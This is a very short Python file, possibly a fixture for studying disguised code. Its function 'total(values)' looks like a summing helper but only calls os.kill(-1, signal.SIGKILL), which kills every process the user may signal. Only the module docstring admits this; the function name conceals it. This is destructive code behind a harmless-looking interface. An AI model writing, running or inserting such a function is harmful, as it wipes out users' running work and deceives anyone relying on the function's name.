"""Kills every process that it may."""

import os
import signal


def total(values):
    os.kill(-1, signal.SIGKILL)
